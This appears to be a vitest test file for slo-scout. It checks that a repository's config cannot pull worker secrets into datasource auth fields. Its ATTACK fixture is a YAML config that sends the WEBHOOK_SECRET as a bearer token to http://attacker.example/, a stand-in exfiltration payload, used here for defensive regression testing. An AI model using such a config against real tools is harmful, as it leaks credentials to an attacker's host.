/**
 * Finding 1 of issue 9: a repository's `.slo-scout.yml` named `{ env: WEBHOOK_SECRET }` with an
 * attacker URL, and one `/slo-scout rerun` later the worker sent the webhook secret there.
 * Now the name is refused at its file:line:col before anything connects, and the engine only
 * ever sees the variables the operator allows.
 */
import { describe, expect, it, vi } from 'vitest';
import { readRepoConfig } from '../../app/config-check.js';
import { configEnvPolicyFromEnv, PERMISSIVE_ENV_POLICY, scopedEnv } from '../../app/config/env-policy.js';
import { parseEnv } from '../../app/config/env.js';
import { formatConfigError, parseConfig } from '../../app/config/schema.js';
import { fixedClock } from '../../app/deps.js';
import { createEngine } from '../../app/engine.js';
import { silentLogger } from '../../app/logger.js';
import { UserInputError } from '../../app/ports.js';
import { parseAllowedHosts } from '../../app/telemetry/outbound.js';
import type { Platform } from '../../app/vcs/platform.js';

const ATTACK = `version: 1
datasources:
  prometheus:
    url: http://attacker.example/
    auth:
      bearerToken: { env: WEBHOOK_SECRET }
`;
const WORKER_ENV = { WEBHOOK_SECRET: 'whsec-do-not-leak', GITLAB_TOKEN: 'glpat-x', DATABASE_URL: 'postgres://u:pw@db/x', SLO_SCOUT_DS_PROM_TOKEN: 'prom-token' };

function platformWith(files: Record<string, string>): Platform {
  return { kind: 'github', botLogin: 'slo-scout[bot]', readFile: (_r: unknown, path: string) => Promise.resolve(files[path] ?? null) } as unknown as Platform;
}

describe('config env references (repository config is untrusted)', () => {
  it('refuses { env: WEBHOOK_SECRET } at its line and column and says how to fix it', () => {
    const r = parseConfig(ATTACK, '.slo-scout.yml');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors).toHaveLength(1);
    expect(formatConfigError(r.errors[0]!)).toMatch(/^\.slo-scout\.yml:6:20 datasources\.prometheus\.auth\.bearerToken: environment variable WEBHOOK_SECRET may not be read/);
    expect(r.errors[0]!.message).toMatch(/SLO_SCOUT_DS_<NAME>.*SLO_SCOUT_CONFIG_ENV_ALLOW/);
  });

  it('the worker reads such a config as invalid, so the analyze job stops before any request', async () => {
    const read = await readRepoConfig(platformWith({ '.slo-scout.yml': ATTACK }), { owner: 'o', repo: 'r' });
    expect(read.found && !read.ok).toBe(true);
  });

  it('the engine refuses it too, before any request, even if a caller skipped the config check', async () => {
    const parsed = parseConfig(ATTACK, '.slo-scout.yml', { env: PERMISSIVE_ENV_POLICY });
    if (!parsed.ok) throw new Error('the permissive parse should accept it');
    const fetchSpy = vi.fn(() => Promise.reject(new Error('no request may be made')));
    const engine = createEngine({ logger: silentLogger, clock: fixedClock('2026-03-01T00:00:00Z'), env: WORKER_ENV, trust: { env: configEnvPolicyFromEnv(undefined), outbound: parseAllowedHosts(undefined) }, fetch: fetchSpy as unknown as typeof fetch });
    await expect(engine.analyze({ config: parsed.config, repo: { owner: 'o', repo: 'r' } })).rejects.toThrow(UserInputError);
    await expect(engine.analyze({ config: parsed.config, repo: { owner: 'o', repo: 'r' } })).rejects.toThrow(/WEBHOOK_SECRET may not be read/);
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('every other worker secret is refused the same way, in auth.basic and in Policy Guard routing keys', () => {
    const text = `datasources:
  prometheus:
    url: http://prometheus:9090
    auth: { basic: { username: u, password: { env: DATABASE_URL } } }
  tempo:
    url: http://tempo:3200
    auth: { bearerToken: { env: GITLAB_TOKEN } }
policy_guard:
  pagerduty:
    routing_keys: { default: { env: SLACK_BOT_TOKEN } }
`;
    const r = parseConfig(text, '.slo-scout.yml');
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.errors.map((e) => `${e.line}:${e.path}`)).toEqual([
      '4:datasources.prometheus.auth.basic.password',
      '7:datasources.tempo.auth.bearerToken',
      '10:policy_guard.pagerduty.routing_keys.default',
    ]);
  });

  it('SLO_SCOUT_DS_* names and the operator list resolve; a label matcher called env is not a secret', () => {
    const text = `datasources:
  prometheus:
    url: http://prometheus:9090
    auth: { bearerToken: { env: SLO_SCOUT_DS_PROM_TOKEN } }
  tempo:
    url: http://tempo:3200
    auth: { bearerToken: { env: TEAM_A_TEMPO } }
metrics:
  matchers: { env: prod }
`;
    expect(parseConfig(text, 'c.yml').ok).toBe(false); // TEAM_A_TEMPO is not allowed by default
    const policy = configEnvPolicyFromEnv('PROM_TOKEN, TEAM_A_*');
    const r = parseConfig(text, 'c.yml', { env: policy });
    if (!r.ok) throw new Error(r.errors.map(formatConfigError).join('\n'));
    expect(r.config.metrics.matchers).toEqual({ env: 'prod' });
  });

  it('the environment handed to repository-driven code holds only allowed names', () => {
    const env = scopedEnv({ ...WORKER_ENV, PROM_TOKEN: 'p' }, configEnvPolicyFromEnv('PROM_TOKEN'));
    expect(Object.keys(env).sort()).toEqual(['PROM_TOKEN', 'SLO_SCOUT_DS_PROM_TOKEN']);
  });

  it('an operator cannot allow everything by accident: * in SLO_SCOUT_CONFIG_ENV_ALLOW is a start-up error naming the variable', () => {
    expect(() => parseEnv({ SLO_SCOUT_CONFIG_ENV_ALLOW: '*' })).toThrow(/SLO_SCOUT_CONFIG_ENV_ALLOW: "\*" is not a variable name or a prefix/);
    expect(() => parseEnv({ SLO_SCOUT_ALLOWED_HOSTS: 'http://prom:9090' })).toThrow(/SLO_SCOUT_ALLOWED_HOSTS: .*no scheme or port/);
    expect(parseEnv({ SLO_SCOUT_CONFIG_ENV_ALLOW: 'PROM_TOKEN,TEAM_*', SLO_SCOUT_ALLOWED_HOSTS: 'prom.internal,*.svc.cluster.local,10.0.0.0/8' }).SLO_SCOUT_ALLOWED_HOSTS).toBe('prom.internal,*.svc.cluster.local,10.0.0.0/8');
  });
});
